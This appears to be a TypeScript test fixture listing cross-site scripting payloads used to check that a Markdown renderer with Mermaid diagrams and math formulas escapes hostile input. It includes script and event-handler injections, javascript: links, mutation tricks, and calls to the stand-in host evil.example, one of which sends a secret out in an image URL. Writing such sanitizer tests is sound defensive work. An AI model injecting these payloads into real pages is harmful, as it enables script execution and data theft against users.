/** Texts that set `window.hacked` or call another server if they are interpreted as anything but text. */
export const hostileTexts: Record<string, string> = {
  script: '<script>window.hacked = 1</script><script src="https://evil.example/x.js"></script>',
  'image error': '<img src=x onerror="window.hacked = 1"><img srcset="https://evil.example/s.png 1x">',
  svg: '<svg onload="window.hacked = 1"><animate onbegin="window.hacked = 1" attributeName="x" dur="1s"></svg>',
  frame: '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe><object data="https://evil.example/o"></object>',
  mathml:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  style:
    '<style>body { background: url(https://evil.example/css) }</style><link rel="stylesheet" href="https://evil.example/l">',
  links:
    '[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](java&#10;script:window.hacked=1) <javascript:window.hacked=1>',
  'data links':
    '[a](data:text/html,<script>window.hacked=1</script>) [b](vbscript:x) [c][ref]\n\n[ref]: javascript:window.hacked=1',
  images:
    '![" onerror="window.hacked=1](x) ![x](https://evil.example/?q=SECRET) ![y][img]\n\n[img]: https://evil.example/y',
  footnote: 'Note[^1]\n\n[^1]: <img src=x onerror=window.hacked=1> [x](javascript:window.hacked=1)',
  'code fence': '```js"><img src=x onerror=window.hacked=1>\n</code><script>window.hacked = 1</script>\n```',
  mermaid:
    '```mermaid\ngraph TD\n  A["<img src=https://evil.example/m onerror=window.hacked=1>"] --> B\n  click A "javascript:window.hacked=1"\n```',
  'broken mermaid': '```mermaid\ngraph TD <img src=x onerror=window.hacked=1> ((((\n```',
  'broken math': '$$\\frac{<img src=x onerror=window.hacked=1>}{ \\undefined<script>window.hacked=1</script> $$',
  math: '$$\\href{javascript:window.hacked=1}{x} \\includegraphics{https://evil.example/k.png} \\htmlData{a=<img>}{y}$$',
};
